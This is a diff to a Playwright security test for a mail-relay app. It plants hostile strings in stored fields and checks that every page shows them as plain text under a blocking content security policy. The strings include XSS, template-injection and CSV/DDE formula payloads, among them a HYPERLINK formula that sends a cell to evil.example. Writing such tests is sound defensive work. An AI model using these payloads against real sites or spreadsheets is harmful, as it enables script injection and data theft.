@@ -1,8 +1,10 @@
-import { expect, test } from '@playwright/test';
+import { expect, type Page, test } from '@playwright/test';
 import { startSystem } from '@/lib/testing/system';
 import { SCOPES } from '@/lib/tokens/schema';
 import { type HostileMail, startHostileMail } from './support/hostile-mail';
+import { chooseTechnical, PASSWORD, settled, signIn } from './support/panel';
 import { type Reply, send } from './support/raw-request';
+import { watchScripts } from './support/watch-scripts';
 
 const SCRIPT = `"'><script>ran('script')</script><img src=x onerror=ran('img')><svg onload=ran('svg')>`;
 /** Each would run, be reckoned, or be a formula or a header where it is not taken as the text that it is. */
@@ -10,7 +12,7 @@ const TEXTS = [
   SCRIPT,
   `</title></textarea></style></template>${SCRIPT}`,
   `javascript:ran('url')//`,
-  `[see](javascript:ran('markdown')) {{7*7}} {{constructor.constructor("ran('template')")()}} \${7*7} <%= 7*7 %>`,
+  `[see](javascript:ran('markdown')) {{1234*5678}} {{constructor.constructor("ran('template')")()}} \${1234*5678} <%= 1234*5678 %>`,
   `=HYPERLINK("http://evil.example/?"&A1,"see")`,
   `+1+cmd|' /C calc'!A0`,
   `@SUM(1+1)*cmd|' /C calc'!A0`,
@@ -18,13 +20,14 @@ const TEXTS = [
 ];
 const FORMULAS = ['=HYPERLINK("http://evil.example")', '+1+1', '@SUM(1+1)', '-2+3'];
 /** For places of 80 characters. */
-const SHORT = `"><img src=x onerror=ran('s')>{{7*7}}`;
+const SHORT = `"><img src=x onerror=ran('s')>{{1234*5678}}`;
 const AGENT = `Mozilla/5.0 <script>ran('agent')</script> "><img src=x onerror=ran('agent')>`;
 
-test('what others write leaves as text, and what no place has a use for is refused', async () => {
-  test.setTimeout(240_000);
+test('what others write is shown as text on every page, and leaves as text', async ({ browser }) => {
+  test.setTimeout(300_000);
   const system = await startSystem();
   const mail = await startHostileMail(SCRIPT);
+  await system.relevo('admin', 'create', '--email', 'hostile@example.com', '--password', PASSWORD);
   const token = await system.relevo('token', 'create', '--name', 'hostile', '--scopes', SCOPES.join(','));
   const call = async (method: string, path: string, body?: unknown): Promise<Reply & { id: string }> => {
     const headers = { authorization: `Bearer ${token.trim()}`, 'user-agent': AGENT, prefer: 'wait=3' };
@@ -40,19 +43,35 @@ test('what others write leaves as text, and what no place has a use for is refus
     return reply.id;
   };
 
-  await plant(must, mail);
+  const pages = await plant(must, mail);
   await expectRefusals(call);
+  const context = await browser.newContext({ userAgent: AGENT, baseURL: system.url });
+  const page = await context.newPage();
+  const alive = await watchScripts(page);
+  await signIn(page, 'hostile@example.com');
+  await must('PATCH', 'people/hostile@example.com', { name: SHORT });
+  await chooseTechnical(page);
+  for (const path of pages) {
+    await page.goto(path);
+    await settled(page);
+    // Reckoned by something that takes a text for a template.
+    expect(await page.locator('body').textContent(), path).not.toContain(String(1234 * 5678));
+  }
+  expect(alive).toEqual([]);
+
   await expectOnlyText(call, mail);
+  await expectWatching(page, alive);
+  await context.close();
   await mail.close();
   await system.stop();
 });
 
 type Must = (method: string, path: string, body?: unknown) => Promise<string>;
 
-/** Wherever a text is stored. */
-async function plant(must: Must, { port }: HostileMail): Promise<void> {
+/** Wherever a text is stored; returns the pages that show what is there. */
+async function plant(must: Must, { port }: HostileMail): Promise<string[]> {
   const settings = { host: '127.0.0.1', port, security: 'none', transcript: true };
-  await must('POST', 'companies', { name: SHORT, key: 'hostile' });
+  const company = await must('POST', 'companies', { name: SHORT, key: 'hostile' });
   const provider = await must('POST', 'providers', {
     name: SHORT,
     kind: 'smtp',
@@ -68,21 +87,54 @@ async function plant(must: Must, { port }: HostileMail): Promise<void> {
   });
   await must('POST', `providers/${provider}/test`, { to: 'ana@example.com' });
   for (const name of FORMULAS) await must('POST', 'tokens', { name, scopes: ['messages:read'] });
-  await must('POST', 'tokens', { name: SHORT, note: SCRIPT, scopes: ['messages:read'] });
+  const other = await must('POST', 'tokens', { name: SHORT, note: SCRIPT, scopes: ['messages:read'] });
+  const messages: string[] = [];
   for (const [at, text] of TEXTS.entries())
-    await must('POST', 'messages', {
-      from: { email: 'clinic@example.com', name: text.slice(0, 200) },
-      to: { email: `${['ana', 'malo', 'down'][at % 3]}@example.com`, name: text.slice(0, 200) },
-      subject: text,
-      text: `${text}\n${text.repeat(50)}`,
-      html: `<p>${text}</p><a href="javascript:ran('link')">${text}</a><form action="javascript:ran('form')"></form>`,
-      headers: { 'X-Own': text },
-      metadata: { [text.slice(0, 40)]: text },
-      attachments: [
-        { filename: `${text.slice(0, 60).replaceAll(/[/\\]/g, '')}.html`, content: btoa(SCRIPT) },
-      ],
-      providers: [provider],
-    });
+    messages.push(
+      await must('POST', 'messages', {
+        from: { email: 'clinic@example.com', name: text.slice(0, 200) },
+        to: { email: `${['ana', 'malo', 'down'][at % 3]}@example.com`, name: text.slice(0, 200) },
+        subject: text,
+        text: `${text}\n${text.repeat(50)}`,
+        html: `<p>${text}</p><a href="javascript:ran('link')">${text}</a><form action="javascript:ran('form')"></form>`,
+        headers: { 'X-Own': text },
+        metadata: { [text.slice(0, 40)]: text },
+        attachments: [
+          { filename: `${text.slice(0, 60).replaceAll(/[/\\]/g, '')}.html`, content: btoa(SCRIPT) },
+        ],
+        providers: [provider],
+      }),
+    );
+  const search = encodeURIComponent(SCRIPT);
+  return [
+    '/',
+    '/messages',
+    `/messages?q=${search}&provider=${search}&tag=${search}`,
+    ...messages.map((id) => `/messages/${id}`),
+    `/messages/compose?from=${messages[0]}`,
+    `/messages/${search}`,
+    '/queue',
+    '/sandbox',
+    '/providers',
+    ...['', '?tab=settings', '?tab=keys', '?tab=tests', '?tab=changes', '?tab=attempts'].map(
+      (tab) => `/providers/${provider}${tab}`,
+    ),
+    '/providers/checks',
+    '/routing',
+    '/drills',
+    '/companies',
+    `/companies/${company}`,
+    '/tokens',
+    `/tokens/${other}`,
+    '/people',
+    '/audit',
+    `/audit?action=${search}&actor=${search}`,
+    '/account',
+    '/settings',
+    `/settings?tab=${search}`,
+    '/workers',
+    `/${search}`,
+  ];
 }
 
 const LATER = { to: 'ana@example.com', subject: 'x', text: 'x' };
@@ -141,4 +193,14 @@ async function expectOnlyText(
     const cells = text.replace(/^\ufeff/, '').split(/(?:^|,|\r\n)(?=(?:[^"]*"[^"]*")*[^"]*$)/m);
     expect(cells.filter((cell) => /^"?[=+\-@\t]/.test(cell))).toEqual([]);
   }
+}
+
+/** That nothing was seen says something only if it would have been. */
+async function expectWatching(page: Page, alive: string[]) {
+  await page.evaluate(() => {
+    document.body.append(
+      Object.assign(document.createElement('div'), { innerHTML: '<img src=x onerror=ran()>' }),
+    );
+  });
+  await expect.poll(() => alive.join()).toContain('stopped: script-src');
 }
